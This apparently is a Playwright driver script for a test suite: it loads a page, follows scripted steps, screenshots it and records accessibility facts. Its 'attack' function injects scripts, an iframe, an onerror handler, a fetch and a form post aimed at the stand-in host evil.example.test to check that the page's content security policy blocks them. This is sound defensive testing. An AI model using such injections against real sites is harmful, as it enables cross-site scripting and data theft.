// Opens a page in Chromium, does what standard input says (see plan in
// drive_test.go), and writes to standard output what was there to see. It
// judges nothing.
import { chromium } from 'playwright-core';
import { readFileSync } from 'node:fs';

const plan = JSON.parse(readFileSync(0));
const report = { answers: [], requests: [], history: [], looks: {}, policy: null };
const sizes = { desktop: { width: 900, height: 620 }, phone: { width: 390, height: 844 } };
let hostile = false; // what the page does now is not its own doing

const context = await chromium.launchPersistentContext(plan.profile, {
	executablePath: '/usr/bin/chromium',
	viewport: sizes.desktop,
	ignoreHTTPSErrors: true, // the lab's own authority
	args: [
		'--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
		'--disable-component-update', '--disable-sync', `--proxy-server=${plan.proxy}`,
	],
});
context.setDefaultTimeout(20_000);
try {
	const page = context.pages()[0] ?? await context.newPage();
	watch(page);
	await page.goto(plan.url);
	for (const step of plan.steps) {
		await take(page, step);
	}
	const devtools = await context.newCDPSession(page);
	const { entries } = await devtools.send('Page.getNavigationHistory');
	report.history = entries.map((entry) => entry.url);
	await Promise.all(report.answers.map(async (answer) => { answer.body = await answer.body; }));
} finally {
	await context.close();
}
process.stdout.write(JSON.stringify(report));

function watch(page) {
	page.on('request', (request) => hostile || report.requests.push(request.url()));
	page.on('response', (response) => report.answers.push({
		url: response.url(), status: response.status(), headers: response.headers(), at: new Date().toISOString(),
		body: response.text().catch(() => ''), // a redirect has none
	}));
}

async function take(page, { action, argument }) {
	switch (action) {
	case 'look':
		report.looks[argument] = await look(page, argument, { desktop: ['light'], phone: ['dark'] });
		break;
	case 'study':
		report.looks[argument] = await look(page, argument, { desktop: ['dark', 'light'], phone: ['dark', 'light'] });
		break;
	case 'type': // where the focus is
		await page.keyboard.type(argument);
		break;
	case 'key':
		await Promise.all([page.waitForNavigation(), page.keyboard.press(argument)]);
		break;
	case 'button':
		await Promise.all([page.waitForNavigation(), page.getByRole('button', { name: argument, exact: true }).click()]);
		break;
	case 'link':
		await Promise.all([page.waitForNavigation(), page.getByRole('link', { name: argument, exact: true }).click()]);
		break;
	case 'attack':
		hostile = true;
		report.policy = await page.evaluate(attack);
		break;
	case 'reload':
		await page.reload();
		hostile = false;
		break;
	default:
		throw new Error(`no action ${action}`);
	}
}

// look takes a picture in each size, in the colour schemes given, and notes
// what is there.
async function look(page, name, schemes) {
	const wide = [];
	for (const [size, viewport] of Object.entries(sizes)) {
		await page.setViewportSize(viewport);
		for (const colorScheme of schemes[size]) {
			await page.emulateMedia({ colorScheme });
			await page.screenshot({ path: `${plan.pictures}/${name}-${size}-${colorScheme}.png` });
		}
		if (await page.evaluate(() => document.documentElement.scrollWidth > innerWidth)) {
			wide.push(size);
		}
	}
	await page.setViewportSize(sizes.desktop);
	return { ...await page.evaluate(facts), source: await page.content(), url: page.url(), wide };
}

// facts runs in the page.
function facts() {
	const all = (selector) => [...document.querySelectorAll(selector)];
	const shown = all('input:not([type=hidden]), button, select, textarea');
	const references = all('[aria-describedby]').flatMap((e) => e.getAttribute('aria-describedby').match(/\S+/g) ?? []);
	const field = document.querySelector('input:not([type=hidden])');
	return {
		lang: document.documentElement.lang,
		title: document.title,
		headings: all('h1').map((e) => e.innerText),
		text: document.body.innerText,
		focus: document.activeElement.id,
		unnamed: shown.filter((e) => !e.labels?.length && !e.innerText).map((e) => e.outerHTML),
		dangling: references.filter((id) => !document.getElementById(id)),
		label: field?.labels[0]?.innerText ?? '',
		type: field?.type ?? '',
		value: field?.value ?? '',
		invalid: field?.getAttribute('aria-invalid') ?? '',
		alerts: all('[role=alert]').map((e) => e.innerText),
		elements: [...new Set(all('*').map((e) => e.localName))].sort(),
		scripted: all('*').some((e) => [...e.attributes].some((a) => a.name.startsWith('on'))),
	};
}

// attack runs in the page and does what markup that slipped into it could.
async function attack() {
	const refused = [];
	document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
	const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
	add('script', { textContent: 'window.ran = true' });
	add('script', { src: 'https://evil.example.test/script.js' });
	add('img', { src: 'https://evil.example.test/picture.png' });
	add('iframe', { src: 'https://evil.example.test/frame' });
	add('style', { textContent: 'body { background: url(https://evil.example.test/style.png) }' });
	const div = document.createElement('div');
	div.innerHTML = '<img src="/none" onerror="window.ran = true">';
	document.body.append(div);
	await fetch('https://evil.example.test/fetch').catch(() => {});
	const form = document.createElement('form');
	Object.assign(form, { action: 'https://evil.example.test/form', method: 'post' });
	document.body.append(form);
	form.submit();
	const attempts = 9;
	for (let wait = 0; wait < 100 && refused.length < attempts; wait++) {
		await new Promise((done) => setTimeout(done, 100));
	}
	return { ran: window.ran === true, refused: refused.sort() };
}
